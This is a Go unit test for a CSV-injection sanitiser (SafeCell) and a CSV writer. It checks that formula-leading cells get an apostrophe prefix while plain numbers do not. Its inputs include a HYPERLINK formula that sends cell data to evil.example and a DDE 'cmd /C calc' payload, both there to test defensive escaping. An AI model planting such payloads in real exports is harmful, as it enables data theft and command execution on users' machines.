package sink

import (
	"bytes"
	"encoding/csv"
	"testing"
)

// TestSafeCell against the OWASP CSV-injection rule, worked by hand: a
// leading = + - @ tab or CR is quoted, a plain number is not.
func TestSafeCell(t *testing.T) {
	for in, want := range map[string]string{
		`=HYPERLINK("http://evil.example/?x="&A1,"click")`: `'=HYPERLINK("http://evil.example/?x="&A1,"click")`,
		`+cmd|' /C calc'!A0`: `'+cmd|' /C calc'!A0`,
		"-2+3":               "'-2+3",
		"@SUM(A1:A2)":        "'@SUM(A1:A2)",
		"\t=1":               "'\t=1",
		"\r=1":               "'\r=1",
		"-3":                 "-3",
		"+1.5e3":             "+1.5e3",
		"SGD1":               "SGD1",
		"a=b":                "a=b",
		"":                   "",
		"'=1":                "'=1",
	} {
		if got := SafeCell(in); got != want {
			t.Errorf("SafeCell(%q) = %q, want %q", in, got, want)
		}
	}
	var b bytes.Buffer
	w := NewCSVWriter(&b)
	w.Write([]string{"=1+1", "x"})
	w.Flush()
	rec, err := csv.NewReader(&b).Read()
	if err != nil || rec[0] != "'=1+1" || rec[1] != "x" {
		t.Errorf("CSVWriter wrote %q (%v)", rec, err)
	}
}
